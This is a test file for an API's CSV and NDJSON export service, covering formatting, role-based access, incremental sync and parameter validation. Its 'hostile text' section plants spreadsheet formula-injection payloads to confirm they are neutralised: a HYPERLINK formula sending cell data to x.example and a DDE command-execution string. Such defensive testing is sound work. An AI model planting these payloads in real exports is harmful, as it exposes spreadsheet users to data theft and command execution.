import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RecordExportService } from '../src/modules/export/record-export.service.js';
import { IngestService } from '../src/modules/ingest/ingest.service.js';
import { readCsv } from '../src/modules/ingest/readers/csv-reader.js';
import { readNdjson } from '../src/modules/ingest/readers/ndjson-reader.js';
import type { RawRow, RecordKind } from '../src/modules/ingest/record-kind.js';
import { RECORD_SPECS } from '../src/modules/ingest/record-specs.js';
import { Role } from '../src/modules/auth/role.js';
import { startTestApi, type TestApi } from './support/api-server.js';
import { DIALECTS } from './support/databases.js';

const CUSTOMER_COLUMNS =
  'customer_id,name,email,birth_year,region,tier,lifetime_value,signup_date,churned_at';

describe.each(DIALECTS)('exports on %s', (dialect) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi(dialect);
  });
  afterAll(async () => {
    await api?.close();
  });

  /** Imports rows as one import: every row it inserts or changes gets the same updated_at. */
  async function importRows(kind: RecordKind, rows: RawRow[]) {
    const numbered = rows.map((values, index) => ({ row: index + 2, values }));
    const summary = await new IngestService(api.database.orm.em.fork()).importRows(kind, numbered);
    expect(summary.problems).toEqual([]);
    return summary;
  }
  const get = (path: string) => api.fetch(path);
  const ndjson = async (response: Response) =>
    (await response.text())
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  describe('records', () => {
    beforeAll(async () => {
      await importRows('customers', [
        {
          customer_id: 'A1',
          name: 'Smith, "Jo"',
          birth_year: 1960,
          signup_date: '2025-01-02T03:04:05Z',
          tier: 'vip',
          lifetime_value: 1250.5,
        },
        {
          customer_id: 'A2',
          name: 'Zoë\nNewline',
          birth_year: 1990,
          signup_date: '2025-02-01',
          churned_at: '2026-03-01',
        },
      ]);
      await importRows('contacts', [
        {
          contact_id: 'K1',
          customer_id: 'A1',
          channel: 'chat',
          started_at: '2026-01-05T10:00:00+02:00',
          wait_seconds: 30,
          resolved: true,
          first_contact_resolution: false,
          recompense_type: 'credit',
          recompense_value: 5,
        },
      ]);
    });

    it('writes Excel-friendly CSV: BOM, the canonical header, CRLF, RFC 4180 quoting, ISO 8601 UTC', async () => {
      const response = await get('/export/customers.csv');
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="customers.csv"');
      const bytes = Buffer.from(await response.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.subarray(3).toString('utf8')).toBe(
        `${CUSTOMER_COLUMNS}\r\n` +
          'A1,"Smith, ""Jo""",,1960,,vip,1250.5,2025-01-02T03:04:05.000Z,\r\n' +
          'A2,"Zoë\nNewline",,1990,,,,2025-02-01T00:00:00.000Z,2026-03-01T00:00:00.000Z\r\n',
      );
    });

    it('writes NDJSON with the canonical keys, booleans and numbers typed, the customer by its id', async () => {
      const response = await get('/export/contacts.ndjson');
      expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      expect(await ndjson(response)).toEqual([
        {
          contact_id: 'K1',
          customer_id: 'A1',
          channel: 'chat',
          reason: null,
          queue: null,
          agent_id: null,
          started_at: '2026-01-05T08:00:00.000Z',
          wait_seconds: 30,
          handle_seconds: null,
          transfers: null,
          resolved: true,
          first_contact_resolution: false,
          escalated: null,
          self_service_session_id: null,
          out_of_policy: null,
          peer_approved: null,
          approved_by: null,
          apology: null,
          recompense_type: 'credit',
          recompense_value: 5,
        },
      ]);
    });

    it('refuses a request without a credential (401) and a role the policy does not give the dataset (403)', async () => {
      expect((await api.fetch('/export/customers.csv', { headers: { authorization: '' } })).status).toBe(401);
      const executive = await api.createKey(Role.EXECUTIVE);
      const asExecutive = (path: string) =>
        api.fetch(path, { headers: { authorization: `Bearer ${executive}` } });
      const refused = await asExecutive('/export/contacts.ndjson');
      expect(refused.status).toBe(403);
      expect(await refused.json()).toEqual({
        error: { code: 'FORBIDDEN', message: 'the role executive may not export contacts' },
      });
      expect((await asExecutive('/export/metrics.csv?measures=contacts')).status).toBe(200);
    });

    it('leaves name and e-mail out for a role without personal data, as GraphQL masks them', async () => {
      const bi = await api.createKey(Role.BI);
      const response = await api.fetch('/export/customers.ndjson', {
        headers: { authorization: `Bearer ${bi}` },
      });
      const rows = await ndjson(response);
      expect(rows.map((row) => [row.customer_id, 'name' in row, 'email' in row, row.birth_year])).toEqual([
        ['A1', false, false, 1960],
        ['A2', false, false, 1990],
      ]);
    });

    it('re-imports its own exports unchanged', async () => {
      const ingest = new IngestService(api.database.orm.em.fork());
      const csv = Readable.from([Buffer.from(await (await get('/export/customers.csv')).arrayBuffer())]);
      const customers = await ingest.importRows('customers', readCsv(csv, RECORD_SPECS.customers));
      expect(customers).toMatchObject({
        problemCount: 0,
        rowsRead: 2,
        unchanged: 2,
        inserted: 0,
        updated: 0,
      });
      const lines = Readable.from([await (await get('/export/contacts.ndjson')).text()]);
      const contacts = await ingest.importRows('contacts', readNdjson(lines));
      expect(contacts).toMatchObject({ problemCount: 0, rowsRead: 1, unchanged: 1 });
    });
  });

  it('resumes an incremental sync in chunks without losing or repeating a row, across rows sharing a timestamp', async () => {
    // Each import stamps all its rows with one updated_at: ties are the rule, not the exception.
    await importRows('selfservice', []);
    const session = (id: string, steps: number) => ({
      session_id: id,
      customer_id: 'A1',
      entry: 'faq',
      started_at: '2026-01-01',
      steps,
      outcome: 'resolved',
    });
    await importRows(
      'selfservice',
      ['S1', 'S2', 'S3'].map((id) => session(id, 1)),
    );
    const received: string[] = [];
    const pull = async (query: string) => {
      const response = await get(`/export/selfservice.ndjson?${query}`);
      expect(response.status).toBe(200);
      received.push(
        ...(await ndjson(response)).map((row) => `${row.session_id as string}:${row.steps as number}`),
      );
      return response.headers.get('x-next-cursor');
    };

    const first = await pull('updatedSince=2000-01-01&limit=2');
    expect(received).toEqual(['S1:1', 'S2:1']);
    // The sync stopped here. Meanwhile S1 changes and S4, S5 arrive, all sharing a newer timestamp.
    await importRows('selfservice', [session('S5', 1), session('S1', 2), session('S4', 1)]);
    const second = await pull(`cursor=${first}&limit=2`);
    const third = await pull(`cursor=${second}`);
    // Each version of each row exactly once; within one import, in insertion order (S1 was stored first).
    expect(received).toEqual(['S1:1', 'S2:1', 'S3:1', 'S1:2', 'S5:1', 'S4:1']);
    // Nothing new: no rows, and the same cursor to keep.
    expect(await pull(`cursor=${third}`)).toBe(third);
    expect(received).toHaveLength(6);

    // The same cursor resumes the GraphQL connection with updatedSince, page by page.
    const page = await api.graphql(
      `query ($after: String) { selfServiceSessions(updatedSince: "2000-01-01T00:00:00Z", first: 1, after: $after) {
         nodes { id steps } pageInfo { hasNextPage endCursor } } }`,
      { after: first },
    );
    expect(page.data?.selfServiceSessions).toEqual({
      nodes: [{ id: 'S3', steps: 1 }],
      pageInfo: { hasNextPage: true, endCursor: expect.any(String) },
    });
    const rest = await api.graphql(
      `query ($after: String) { selfServiceSessions(updatedSince: "2000-01-01T00:00:00Z", first: 10, after: $after) {
         nodes { id steps } pageInfo { hasNextPage endCursor } } }`,
      { after: page.data?.selfServiceSessions.pageInfo.endCursor },
    );
    expect(rest.data?.selfServiceSessions).toEqual({
      nodes: [
        { id: 'S1', steps: 2 },
        { id: 'S5', steps: 1 },
        { id: 'S4', steps: 1 },
      ],
      pageInfo: { hasNextPage: false, endCursor: third },
    });
  });

  it('pages through the database in keyset pages smaller than the export, ties included', async () => {
    const service = new RecordExportService(api.database.orm.em.fork(), 2);
    const opened = await service.open('selfservice', { updatedSince: new Date('2000-01-01') });
    const ids: unknown[] = [];
    for await (const row of opened.rows) ids.push(row.session_id);
    expect(ids).toEqual(['S2', 'S3', 'S1', 'S5', 'S4']);
  });

  it('answers a bad parameter with 400 and a JSON body naming it and what was expected', async () => {
    const cases: [string, string, RegExp][] = [
      [
        '/export/contacts.csv?updatedSince=yesterday',
        'updatedSince',
        /^updatedSince: got "yesterday", expected an ISO 8601 timestamp/,
      ],
      ['/export/contacts.csv?cursor=abc', 'cursor', /^cursor: got "abc", expected a cursor from/],
      ['/export/contacts.csv?limit=0', 'limit', /^limit: got "0", expected a whole number of rows/],
      [
        '/export/contacts.csv?updatedsince=2026-01-01',
        'updatedsince',
        /expected one of the parameters updatedSince, cursor, limit$/,
      ],
      [
        '/export/metrics.csv?dimensions=CHANNEL',
        'measures',
        /^measures: got null, expected one or more of nps,/,
      ],
      [
        '/export/metrics.csv?measures=nps,foo',
        'measures',
        /^measures: got "foo", expected a comma-separated list of nps,/,
      ],
      [
        '/export/metrics.csv?measures=deflectionRate&dimensions=CHANNEL',
        'dimensions',
        /^dimensions: got "CHANNEL", expected a dimension that deflectionRate can be split by/,
      ],
      [
        '/export/metrics.csv?measures=nps&grain=hour',
        'grain',
        /^grain: got "hour", expected one of DAY, WEEK, MONTH, QUARTER, YEAR$/,
      ],
      [
        '/export/metrics.csv?measures=nps&from=2026-02-01&to=2026-01-01',
        'to',
        /^filter\.to: got .*, expected an instant not before filter\.from/,
      ],
    ];
    for (const [path, parameter, message] of cases) {
      const response = await get(path);
      expect(response.status, path).toBe(400);
      const body = (await response.json()) as { error: { code: string; parameter: string; message: string } };
      expect(body.error, path).toEqual({
        code: 'BAD_REQUEST',
        parameter,
        message: expect.stringMatching(message),
      });
    }
    const unknown = await get('/export/tickets.csv');
    expect(unknown.status).toBe(404);
    expect(await unknown.json()).toEqual({
      error: {
        code: 'NOT_FOUND',
        message: expect.stringContaining('expected one of customers.csv, customers.ndjson,'),
      },
    });
  });

  it('exports a metric table through the metrics service', async () => {
    await importRows('surveys', [
      {
        response_id: 'R1',
        customer_id: 'A1',
        type: 'nps',
        score: 10,
        channel: 'chat',
        responded_at: '2026-01-10',
      },
      {
        response_id: 'R2',
        customer_id: 'A2',
        type: 'nps',
        score: 3,
        channel: 'chat',
        responded_at: '2026-01-20',
      },
      {
        response_id: 'R3',
        customer_id: 'A2',
        type: 'nps',
        score: 9,
        channel: 'chat',
        responded_at: '2026-01-21',
      },
      {
        response_id: 'R4',
        customer_id: 'A2',
        type: 'nps',
        score: 9,
        channel: 'email',
        responded_at: '2026-02-03',
      },
    ]);
    const query = 'measures=nps,npsResponses&dimensions=channel&grain=MONTH&from=2026-01-01&to=2026-03-01';
    // Response.text() would drop the byte-order mark: decode the bytes as they came.
    const bytes = await (await get(`/export/metrics.csv?${query}`)).arrayBuffer();
    const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    // January chat: 2 promoters, 1 detractor of 3 → NPS 100 × (2 − 1) / 3.
    expect(csv).toBe(
      '\uFEFFperiod,channel,nps,npsResponses\r\n' +
        `2026-01-01T00:00:00.000Z,chat,${100 / 3},3\r\n` +
        '2026-02-01T00:00:00.000Z,email,100,1\r\n',
    );
    expect(await ndjson(await get(`/export/metrics.ndjson?${query}`))).toEqual([
      { period: '2026-01-01T00:00:00.000Z', channel: 'chat', nps: 100 / 3, npsResponses: 3 },
      { period: '2026-02-01T00:00:00.000Z', channel: 'email', nps: 100, npsResponses: 1 },
    ]);
    // A renamed measure is exported under the name asked: csatAvg, the former name of avgCsat.
    const renamed = await ndjson(await get('/export/metrics.ndjson?measures=avgCsat,csatAvg,nps'));
    expect(renamed).toHaveLength(1);
    expect(Object.keys(renamed[0]!)).toEqual(['avgCsat', 'csatAvg', 'nps']);
    expect(renamed[0]!.csatAvg).toBe(renamed[0]!.avgCsat);
  });

  describe('hostile text', () => {
    // Formula payloads of the red-team pass, planted by an INGEST-role import.
    const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"y")';
    const CALC = "+cmd|' /C calc'!A0";
    const SUM = '@SUM(1+1)';
    const asRole = async (role: Role) => {
      const key = await api.createKey(role);
      return (path: string) => api.fetch(path, { headers: { authorization: `Bearer ${key}` } });
    };
    const text = async (response: Response) =>
      new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());

    beforeAll(async () => {
      await importRows('customers', [
        {
          customer_id: 'H1',
          name: HYPERLINK,
          email: 'h1@example.com',
          birth_year: 1985,
          signup_date: '2024-01-01',
        },
        { customer_id: 'H2', name: '-12.5', email: '@h2', birth_year: 1970, signup_date: '2024-01-01' },
      ]);
      await importRows('surveys', [
        {
          response_id: 'HR1',
          customer_id: 'H1',
          type: 'nps',
          score: 0,
          comment: CALC,
          responded_at: '2024-03-01',
        },
      ]);
      await importRows('contacts', [
        { contact_id: 'HK1', customer_id: 'H1', channel: 'chat', reason: SUM, started_at: '2024-03-02' },
      ]);
    });

    it('neutralises cells that would start a formula, in record and metric exports alike (OWASP)', async () => {
      const customers = await text(await get('/export/customers.csv'));
      // The quote-prefixed text is then quoted (RFC 4180) because it holds a quote and a comma.
      expect(customers).toContain('H1,"\'=HYPERLINK(""http://x.example/?""&A1,""y"")",h1@example.com,1985');
      // A plain number is a constant to a spreadsheet, not a formula: it stays as it is.
      expect(customers).toContain("H2,-12.5,'@h2,1970,");
      const surveys = await text(await get('/export/surveys.csv'));
      expect(surveys).toContain("HR1,H1,nps,0,'+cmd|' /C calc'!A0,");
      // An EXECUTIVE reaches an INGEST-planted reason through a metric table.
      const executive = await asRole(Role.EXECUTIVE);
      const metrics = await text(
        await executive(
          '/export/metrics.csv?measures=contacts&dimensions=REASON&from=2024-03-01&to=2024-04-01',
        ),
      );
      expect(metrics).toBe("\uFEFFreason,contacts\r\n'@SUM(1+1),1\r\n");
      // Negative metric values stay numbers: NPS of one detractor = 100 × (0 − 1) / 1 = −100.
      const nps = await text(await get('/export/metrics.csv?measures=nps&from=2024-03-01&to=2024-04-01'));
      expect(nps).toBe('\uFEFFnps\r\n-100\r\n');
    });

    it('re-imports a neutralised export as the text it was', async () => {
      const ingest = new IngestService(api.database.orm.em.fork());
      const csv = Readable.from([Buffer.from(await (await get('/export/customers.csv')).arrayBuffer())]);
      const summary = await ingest.importRows('customers', readCsv(csv, RECORD_SPECS.customers));
      expect(summary).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
      const stored = await api.database.orm.em
        .getConnection()
        .execute<{ name: string | null; email: string | null }[]>(
          "select name, email from customers where external_id in ('H1', 'H2') order by external_id",
        );
      expect(stored).toEqual([
        { name: HYPERLINK, email: 'h1@example.com' },
        { name: '-12.5', email: '@h2' },
      ]);
    });

    it.each(['csv', 'ndjson'])(
      'an export without personal data (BI) leaves the columns out, and its re-import keeps the stored names, e-mails and comments (%s)',
      async (format) => {
        const bi = await asRole(Role.BI);
        const ingest = new IngestService(api.database.orm.em.fork());
        const read = async (kind: RecordKind) => {
          const body = Readable.from([
            Buffer.from(await (await bi(`/export/${kind}.${format}`)).arrayBuffer()),
          ]);
          return format === 'csv' ? readCsv(body, RECORD_SPECS[kind]) : readNdjson(body);
        };
        const customers = await (await bi(`/export/customers.${format}`)).text();
        expect(customers).not.toContain('h1@example.com');
        if (format === 'csv')
          expect(customers.split('\r\n')[0]).toBe(
            'customer_id,birth_year,region,tier,lifetime_value,signup_date,churned_at',
          );
        const imported = await ingest.importRows('customers', await read('customers'));
        expect(imported).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
        const surveys = await ingest.importRows('surveys', await read('surveys'));
        expect(surveys).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
        const connection = api.database.orm.em.getConnection();
        expect(
          await connection.execute("select name, email, generation from customers where external_id = 'H1'"),
        ).toEqual([{ name: HYPERLINK, email: 'h1@example.com', generation: 'millennial' }]);
        expect(
          await connection.execute("select comment from survey_responses where external_id = 'HR1'"),
        ).toEqual([{ comment: CALC }]);
      },
    );

    it('a column a file leaves out keeps its stored value; an empty one clears it; a new row gets null', async () => {
      const ingest = new IngestService(api.database.orm.em.fork());
      const csv = (text: string) => readCsv(Readable.from([text]), RECORD_SPECS.customers);
      const changed = await ingest.importRows(
        'customers',
        csv('customer_id,signup_date,birth_year,region\nH2,2024-01-01,1970,north\nH3,2024-02-01,1999,\n'),
      );
      expect(changed).toMatchObject({ problemCount: 0, inserted: 1, updated: 1 });
      const rows = () =>
        api.database.orm.em
          .getConnection()
          .execute(
            "select external_id, name, email, region from customers where external_id in ('H2', 'H3') order by external_id",
          );
      expect(await rows()).toEqual([
        { external_id: 'H2', name: '-12.5', email: '@h2', region: 'north' },
        { external_id: 'H3', name: null, email: null, region: null },
      ]);
      await ingest.importRows(
        'customers',
        csv('customer_id,signup_date,birth_year,email\nH2,2024-01-01,1970,\n'),
      );
      expect((await rows())[0]).toEqual({ external_id: 'H2', name: '-12.5', email: null, region: 'north' });
    });
  });
});
